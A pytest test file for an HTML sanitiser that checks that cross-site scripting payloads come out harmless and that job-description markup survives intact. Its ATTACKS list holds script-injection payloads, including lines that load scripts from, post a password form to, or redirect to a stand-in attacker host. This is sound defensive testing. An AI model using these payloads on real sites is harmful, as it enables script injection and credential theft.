from __future__ import annotations

import re
from html import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scout.html import elements, legible, sanitise, text, unescaped

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=x></object><embed src=x>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=x class=y name=z data-x=1>x</p>",
    "<a href='//evil.example'>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<select><option><script>alert(1)</script></select>",
    "<<script>alert(1)//<</script>",
]
ALLOWED = re.compile(
    r"</?(?:a|abbr|b|blockquote|br|code|dd|div|dl|dt|em|h[1-6]|hr|i|li|ol|p|pre|s|small|strong|sub|sup|table|tbody"
    r"|td|tfoot|th|thead|tr|u|ul)>"
    r"|<a href=\"(?:https?:|mailto:)[^\"]*\" rel=\"nofollow noopener noreferrer\">"
    r"|<a rel=\"nofollow noopener noreferrer\">"
)


def assert_harmless(html: str) -> None:
    rest = ALLOWED.sub("", html)
    assert "<" not in rest, rest
    assert ">" not in rest, rest


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_reaches_out_is_left(attack: str) -> None:
    assert_harmless(sanitise(attack))
    assert_harmless(sanitise(f"<div><ul><li>{attack}</ul>"))
    assert sanitise(sanitise(attack)) == sanitise(attack)


@given(st.text(alphabet="<>/='\" abpsvgmathtyle!-&;#x\n\x00", max_size=80))
def test_any_soup_of_tags_comes_out_harmless(soup: str) -> None:
    assert_harmless(sanitise(soup))


@given(st.text(max_size=60))
def test_any_text_gives_text(soup: str) -> None:
    text(soup).encode("utf-8")


def test_what_describes_a_job_stays() -> None:
    html = (
        "<h2>Role</h2><p>Run <strong>IAM</strong> &amp; <em>SSO</em>.<br>Really.</p>"
        "<ul><li>SAML</li><li><p>SCIM</p></li></ul><a href='https://example.org/a?b=1&amp;c=2'>more</a>"
    )
    safe = sanitise(html)
    assert "<strong>IAM</strong> &amp; <em>SSO</em>" in safe
    assert '<a href="https://example.org/a?b=1&amp;c=2" rel="nofollow noopener noreferrer">more</a>' in safe
    assert text(html).split("\n") == ["Role", "Run IAM & SSO.", "Really.", "- SAML", "-", "SCIM", "more"]


def test_text_has_one_line_a_block_and_no_loose_spaces() -> None:
    assert text("<div>a \n b&nbsp;c</div><div><br></div><div>d</div>") == "a b c\nd"
    assert text("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>") == "a b\nc"
    assert text("1 &lt; 2 and <b>3</b> &gt; 2") == "1 < 2 and 3 > 2"
    assert text("no tags") == "no tags"


@pytest.mark.parametrize(
    "tag", ["div", "b", "ul><li", "table><tr><td", "blockquote", "font", "a href=https://x.example"]
)
def test_deep_nesting_neither_crashes_nor_survives(tag: str) -> None:
    for depth in (5_000, 40_000):
        safe = sanitise(f"<{tag}>" * depth + "the end")
        assert_harmless(safe)
        assert safe.count("<") <= 10_000


def test_long_descriptions_are_cut() -> None:
    assert len(text("<p>" + "word " * 400_000)) <= 200_000


def test_invisible_and_impossible_characters_are_gone() -> None:
    assert legible("a\u202eb\x00c\ud800d\u2066e\ufefff\x85g") == "abcdefg"
    assert legible("tab\tline\nemoji 👩‍💻 العربية") == "tab\tline\nemoji 👩‍💻 العربية"
    assert sanitise("<p>a\ud800\x00\u202eb</p>") == "<p>ab</p>"


@given(st.text(alphabet=st.characters(max_codepoint=0x7F), max_size=40))
def test_ascii_is_cleared_as_all_text_is(text_: str) -> None:
    assert legible(text_) == legible(f"{text_}\u00e9")[:-1]


def test_one_escaping_is_undone_and_no_more() -> None:
    html = '<p title="a">R&amp;D&nbsp;&lt;b&gt; it\'s</p>'
    assert unescaped(escape(html)) == html
    assert unescaped("&amp;lt;script&amp;gt;") == "&lt;script&gt;"
    assert unescaped("&amp;nbsp;") == "&nbsp;"


def test_elements_are_read_by_their_tags_and_attributes() -> None:
    page = "<!-- <a href=x> --><A HREF='/a?b=1&amp;c=2' Title=\"T 1\" href=no><img src=i/><br><p class>"
    assert list(elements(page)) == [
        ("a", {"href": "x"}),
        ("a", {"href": "/a?b=1&c=2", "title": "T 1"}),
        ("img", {"src": "i/"}),
        ("br", {}),
        ("p", {}),
    ]
